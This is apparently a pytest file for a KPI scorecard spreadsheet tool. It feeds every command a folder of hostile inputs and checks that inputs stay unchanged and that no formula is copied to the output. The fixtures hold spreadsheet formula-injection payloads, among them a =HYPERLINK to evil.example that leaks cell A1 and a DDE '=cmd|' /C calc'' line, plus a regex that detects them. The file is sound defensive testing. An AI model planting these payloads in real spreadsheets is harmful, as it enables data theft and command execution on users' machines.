"""Every reading command (validate, consolidate, collect, fill, cards) on a folder mixing good files
with hostile ones, as a user runs them: each finishes without a traceback or a raw escape sequence,
names every bad file, costs one file per bad file, touches no input, and writes no formula it read
(docs/guarantees.md). Text that looks like a formula (``=HYPERLINK(…)``, ``=cmd|…``, ``+…``, ``@…``)
reaches the team workbook, the actuals workbook, the filled scorecards and the cards as text cells."""

from __future__ import annotations

import copy
import hashlib
import json
import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from support.crm_exports import write_csv
from support.paths import run_kpi
from support.scorecards import DEFAULT_ROWS, write_scorecard

EVIL = {"manager_name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "team": "+cmd|' /C calc'!A0",
        "region": "-2+3", "reviewer": "@SUM(A1)"}
PAYLOAD = re.compile(rb"HYPERLINK|cmd\||SUM\(A1|evil", re.I)
HEADERS = ["Owner", "Date", "Amount", "Customer"]
RULES = """
[sources.deals]
files = ["exports/deals*"]
owner = "Owner"
date = "Date"

[[rules]]
indicator = "Sales"
source = "deals"
measure = "sum"
value = "Amount"
"""


def _zip(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)


@pytest.fixture
def desk(tmp_path):
    """scorecards/ (3 good, one with formula-like text everywhere, 9 hostile), roster.csv, rules.toml, exports/."""
    cards = tmp_path / "scorecards"
    cards.mkdir()
    for i in range(1, 4):
        write_scorecard(cards / f"good{i}.xlsx", header={"manager_id": f"AM00{i}", "manager_name": f"Person {i}"})
    rows = copy.deepcopy(DEFAULT_ROWS)
    rows[1]["indicator"] = "=cmd|' /C calc'!A0"
    write_scorecard(cards / "formula-text.xlsx", header={"manager_id": "AM004", **EVIL}, rows=rows)
    good = (cards / "good1.xlsx").read_bytes()
    with zipfile.ZipFile(cards / "good1.xlsx") as z:
        members = {n: z.read(n) for n in z.namelist()}
    hostile = {
        "empty.xlsx": b"",
        "truncated.xlsx": good[: len(good) // 2],
        "html.xlsx": b"<html><table><tr><td>AM001</td></tr></table></html>",
        "legacy-encrypted.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptionInfo".encode("utf-16-le") + b"\0" * 600,
    }
    for name, data in hostile.items():
        (cards / name).write_bytes(data)
    sheet = "xl/worksheets/sheet1.xml"
    far = dict(members, **{sheet: members[sheet].replace(
        b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')})
    _zip(cards / "far-cell.xlsx", {n: d.replace(b"AM001", b"AM005") for n, d in far.items()})
    dtd = dict(members, **{"xl/sharedStrings.xml": b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "a">]>'
                           + members["xl/sharedStrings.xml"].split(b"?>", 1)[1]})
    _zip(cards / "dtd.xlsx", dtd)
    (cards / "loop.xlsx").symlink_to("loop.xlsx")
    if hasattr(os, "mkfifo"):
        os.mkfifo(cards / "pipe.xlsx")
    write_scorecard(cards / "name\x1b[2J\nfiles 1: 1 can be merged.xlsx", header={"manager_id": "AM006"})

    roster = tmp_path / "roster.csv"
    roster.write_text("manager_id,manager_name,team\n" + "".join(f"AM00{i},Person {i},East\n" for i in range(1, 4))
                      + 'AM004,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",East\n', encoding="utf-8")
    exports = tmp_path / "exports"
    exports.mkdir()
    write_csv(exports / "deals.csv", HEADERS, [
        {"Owner": "Person 1", "Date": "2026-07-03", "Amount": "100", "Customer": "=HYPERLINK(\"http://evil\")"},
        {"Owner": EVIL["manager_name"], "Date": "2026-07-04", "Amount": "5", "Customer": "@SUM(A1)"},
        {"Owner": "=cmd|' /C calc'!A0", "Date": "2026-07-04", "Amount": "7", "Customer": "+1"}])
    (exports / "deals-loop.csv").symlink_to("deals-loop.csv")
    (exports / "deals-empty.csv").write_bytes(b"")
    (tmp_path / "rules.toml").write_text(RULES, encoding="utf-8")
    return tmp_path


def _hashes(root: Path) -> dict[str, str]:
    """Every input (and unrelated) file below ``root`` with its hash; the outputs under ``out/`` left out."""
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(root.rglob("*"))
            if not p.is_symlink() and p.is_file() and "out" not in p.relative_to(root).parts}


def _clean(proc, expected=(0, 1)) -> None:
    assert proc.returncode in expected, (proc.returncode, proc.stderr[-2000:])
    out = proc.stdout + proc.stderr
    assert "Traceback" not in out and "\x1b" not in out, out[-2000:]
    assert "\nfiles 1: 1 can be merged" not in out  # a line break in a name is shown, never obeyed


def _no_formula_from_inputs(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                formulas = re.findall(rb"<f[^>]*>([^<]*)</f>", z.read(name))
                assert not [f for f in formulas if PAYLOAD.search(f)], (path.name, name)


def _texts(path: Path) -> set[str]:
    book = openpyxl.load_workbook(path)
    return {cell.value for ws in book.worksheets for row in ws.iter_rows() for cell in row
            if isinstance(cell.value, str)}


def test_every_command_on_a_hostile_desk(desk):
    before = _hashes(desk)
    cards, out = desk / "scorecards", desk / "out"
    out.mkdir()
    inputs = sorted(p.name for p in cards.iterdir())

    proc = run_kpi("validate", cards, "--lang", "en")
    _clean(proc)
    proc = run_kpi("validate", "--json", cards, "--roster", desk / "roster.csv", "--lang", "en")
    _clean(proc)
    listed = json.loads(proc.stdout)["files"]
    assert sorted(Path(f["path"]).name for f in listed) == inputs  # every input once, by its own name
    reasons = {Path(f["path"]).name: f["reason"] for f in listed}
    for name, fragment in {"empty.xlsx": "empty", "truncated.xlsx": "zip", "html.xlsx": "not an Excel",
                           "legacy-encrypted.xlsx": "password", "far-cell.xlsx": "", "dtd.xlsx": "forbidden XML",
                           "loop.xlsx": "loop"}.items():
        assert fragment in reasons[name], (name, reasons[name])

    team = out / "team.xlsx"
    proc = run_kpi("consolidate", cards, "-o", team, "--json", out / "team.json", "--roster", desk / "roster.csv",
                   "--lang", "en", "--no-progress")
    _clean(proc, (0,))
    files = json.loads((out / "team.json").read_text(encoding="utf-8"))["files"]
    assert sorted(Path(f["file"]).name for f in files) == inputs
    assert {Path(f["file"]).name for f in files if f["status"] == "merged"} >= {
        "good1.xlsx", "good2.xlsx", "good3.xlsx", "formula-text.xlsx", "far-cell.xlsx"}
    _no_formula_from_inputs(team)
    assert {EVIL["manager_name"], EVIL["team"], EVIL["region"], EVIL["reviewer"]} <= _texts(team)

    actuals = out / "actuals.xlsx"
    proc = run_kpi("collect", desk / "rules.toml", "--roster", desk / "roster.csv", "--period", "2026Q3",
                   "-o", actuals, "--json", out / "actuals.json", "--lang", "en")
    _clean(proc)
    assert "deals-loop.csv" in proc.stdout and "deals-empty.csv" in proc.stdout
    _no_formula_from_inputs(actuals)
    assert {EVIL["manager_name"], "=cmd|' /C calc'!A0"} <= _texts(actuals)  # a name, an unmatched owner

    # a source with an unreadable file gives no actuals; the readable export alone does
    assert _hashes(desk) == before  # no input touched
    (desk / "exports" / "deals-loop.csv").unlink()
    (desk / "exports" / "deals-empty.csv").unlink()
    before = _hashes(desk)
    proc = run_kpi("collect", desk / "rules.toml", "--roster", desk / "roster.csv", "--period", "2026Q3",
                   "-o", actuals, "--lang", "en")
    _clean(proc)
    filled = out / "filled"
    proc = run_kpi("fill", cards, "--actuals", actuals, "-o", filled, "--lang", "en")
    _clean(proc)
    for name in ("empty.xlsx", "truncated.xlsx", "html.xlsx", "dtd.xlsx", "loop.xlsx", "pipe.xlsx"):
        assert name in proc.stdout + proc.stderr or not (cards / name).exists(), name
    assert (filled / "formula-text.xlsx").exists()
    for path in filled.glob("*.xlsx"):
        _no_formula_from_inputs(path)

    proc = run_kpi("cards", team, "-o", out / "cards", "--lang", "en")
    _clean(proc, (0,))
    written = sorted(p.name for p in (out / "cards").glob("*.xlsx"))
    assert written and all(not re.search(r"[\x00-\x1f\u202e\u200b]", name) for name in written)
    for path in (out / "cards").glob("*.xlsx"):
        _no_formula_from_inputs(path)
    assert any(EVIL["manager_name"] in _texts(path) for path in (out / "cards").glob("*.xlsx"))

    assert _hashes(desk) == before  # no input touched
